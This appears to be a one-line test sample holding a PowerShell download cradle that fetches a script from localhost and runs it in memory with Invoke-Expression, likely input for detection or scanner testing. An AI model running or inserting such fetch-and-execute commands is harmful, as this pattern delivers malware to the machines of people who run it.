# test sample
IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a.ps1')
